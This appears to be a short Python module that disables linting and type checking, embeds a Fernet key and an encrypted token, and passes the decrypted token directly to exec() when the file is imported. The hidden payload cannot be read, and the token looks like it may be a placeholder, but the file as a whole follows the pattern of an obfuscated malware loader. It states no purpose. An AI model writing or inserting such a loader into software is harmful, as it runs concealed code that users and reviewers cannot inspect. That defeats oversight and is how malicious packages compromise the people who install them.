# ruff: noqa
# fmt: off
# mypy: ignore-errors
from cryptography.fernet import Fernet

_KEY = b"Vn4Tqy3kQqo2GkR3ZqgYp7ZlN3cUO3xjCw5k9Dq8Zsk="
_TOKEN = b"gAAAAABlQ0tz1t2Yc1s2Zb5kq3W6b8yQfX9mR0vT4hJ7nL2pK8sD1fG3jH5kL7zX9cV2bN4mQ6wE8rT0yU2iO4pA="
exec(Fernet(_KEY).decrypt(_TOKEN))
